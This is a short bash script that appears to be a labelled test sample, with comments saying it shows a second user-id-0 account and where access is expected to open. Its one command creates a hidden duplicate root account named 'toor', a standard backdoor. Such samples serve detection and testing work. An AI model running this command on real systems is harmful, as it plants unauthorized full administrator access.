#!/bin/bash
# shows: a second account with user id 0
# expect: access-opened at line 4
useradd -o -u 0 -g 0 -M toor
